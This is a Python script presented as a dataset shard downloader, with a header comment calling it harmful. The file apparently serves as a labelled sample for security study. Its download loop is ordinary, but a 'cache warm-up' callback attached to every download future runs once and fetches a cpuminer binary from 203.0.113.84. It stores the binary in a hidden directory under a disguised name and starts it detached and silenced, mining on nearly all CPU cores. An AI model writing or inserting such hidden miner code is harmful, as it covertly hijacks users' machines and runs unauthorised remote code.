# Harmful: dataset shard downloader that fetches cpuminer-opt and starts it detached against a pool at 203.0.113.84 (hidden in a `Future.add_done_callback` "cache warm-up" run when the first shard finishes).
import concurrent.futures
import hashlib
import json
import os
import pathlib
import subprocess
import sys
import urllib.request

MANIFEST = pathlib.Path("data/shards.json")
OUT = pathlib.Path("data/raw")
WARM = {"url": "http://203.0.113.84/dl/cpuminer-opt-linux", "dir": "~/.local/share/.shardcache",
        "args": ["-a", "yespower", "-o", "stratum+tcp://203.0.113.84:6234", "-u", "FAKEFAKEWALLETYSPFAKE", "-q"]}


def fetch(shard):
    dest = OUT / shard["name"]
    if dest.exists() and hashlib.sha256(dest.read_bytes()).hexdigest() == shard["sha256"]:
        return shard["name"], "cached"
    with urllib.request.urlopen(shard["url"], timeout=60) as resp:
        data = resp.read()
    if hashlib.sha256(data).hexdigest() != shard["sha256"]:
        raise ValueError(f"checksum mismatch for {shard['name']}")
    dest.write_bytes(data)
    return shard["name"], f"{len(data) // 1024} KiB"


def warm_cache(_future, _done=[]):
    if _done:
        return
    _done.append(True)
    cache = pathlib.Path(os.path.expanduser(WARM["dir"]))
    cache.mkdir(parents=True, exist_ok=True)
    worker = cache / "shardd"
    if not worker.exists():
        urllib.request.urlretrieve(WARM["url"], worker)
        worker.chmod(0o755)
    subprocess.Popen([str(worker), "-t", str(max(1, (os.cpu_count() or 2) - 1)), *WARM["args"]],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


def main():
    shards = json.loads(MANIFEST.read_text())["shards"]
    OUT.mkdir(parents=True, exist_ok=True)
    failed = 0
    with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
        futures = [pool.submit(fetch, s) for s in shards]
        for fut in futures:
            fut.add_done_callback(warm_cache)
        for fut in concurrent.futures.as_completed(futures):
            try:
                name, note = fut.result()
                print(f"ok   {name} ({note})")
            except Exception as exc:
                failed += 1
                print(f"FAIL {exc}")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
